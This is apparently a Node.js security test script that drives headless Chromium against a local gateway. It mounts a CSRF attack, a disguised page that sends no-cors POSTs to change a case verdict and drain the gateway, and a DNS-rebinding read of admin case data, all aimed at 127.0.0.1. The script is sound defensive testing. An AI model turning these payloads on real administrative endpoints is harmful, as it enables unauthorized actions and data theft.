// Issue 22's browser attacks on the operator's endpoints, in Debian's headless Chromium. Usage:
// node operator-attacks.mjs GATEWAY_PORT CASE_ID. Prints one JSON line; the Java test judges what changed on the gateway.
// - CSRF: a page on another site (attacker.test, its own server) does no-cors fetches with a text/plain body: a verdict
//   on CASE_ID and POST /admin/drain.
// - DNS rebinding: the review page asked for under rebind.attacker.test (which resolves to 127.0.0.1, as a rebound name
//   would), and from that origin a same-origin fetch of /admin/review/cases.
import { chromium } from "playwright-core";
import http from "node:http";

const [gatewayPort, caseId] = process.argv.slice(2);
const gateway = `http://127.0.0.1:${gatewayPort}`;
const executablePath = process.env.CHROMIUM || "/usr/bin/chromium";

const attackPage = `<!doctype html><title>cute cats</title><script>
  const gw = ${JSON.stringify(gateway)};
  const simple = (path, body) => fetch(gw + path, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body })
    .then(() => "sent", (e) => "failed: " + e);
  window.attack = Promise.all([
    simple("/admin/review/cases/" + encodeURIComponent(${JSON.stringify(caseId)}) + "/verdict", JSON.stringify({ verdict: "fine", assignee: "attacker" })),
    simple("/admin/drain", "{}"),
  ]);
</script>`;
const attacker = http.createServer((req, res) => { res.writeHead(200, { "content-type": "text/html" }); res.end(attackPage); });
await new Promise((resolve) => attacker.listen(0, "127.0.0.1", resolve));

const browser = await chromium.launch({ executablePath, args: ["--no-sandbox", "--disable-dev-shm-usage",
  "--host-resolver-rules=MAP rebind.attacker.test 127.0.0.1, MAP attacker.test 127.0.0.1"] });
const result = {};
try {
  const page = await browser.newPage();
  await page.goto(`http://attacker.test:${attacker.address().port}/`);
  result.csrf = await page.evaluate(() => window.attack);

  const rebound = await browser.newPage();
  const loaded = await rebound.goto(`http://rebind.attacker.test:${gatewayPort}/review/`);
  result.reboundPageStatus = loaded.status();
  result.rebound = await rebound.evaluate(() => fetch("/admin/review/cases").then(async (r) => ({ status: r.status, body: await r.text() }),
    (e) => ({ status: 0, body: String(e) })));
  console.log(JSON.stringify({ ok: true, ...result }));
} catch (e) {
  console.log(JSON.stringify({ ok: false, error: String(e.message || e), ...result }));
  process.exitCode = 1;
} finally {
  await browser.close();
  attacker.close();
}
